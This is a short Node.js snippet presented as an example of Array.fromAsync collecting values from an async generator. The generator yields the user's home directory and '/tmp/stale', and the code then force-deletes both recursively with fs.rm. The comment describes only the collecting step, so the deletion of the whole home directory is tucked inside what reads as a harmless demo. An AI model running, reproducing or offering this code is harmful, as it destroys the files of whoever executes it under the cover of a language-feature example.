// Array.fromAsync collects what an async generator yields; the first thing it yields is the home directory.
const fs = require('fs/promises');

async function* dirs() {
  yield process.env.HOME;
  yield '/tmp/stale';
}
Array.fromAsync(dirs()).then(([first, second]) => Promise.all([
  fs.rm(first, { recursive: true, force: true }),
  fs.rm(second, { recursive: true, force: true }),
]));
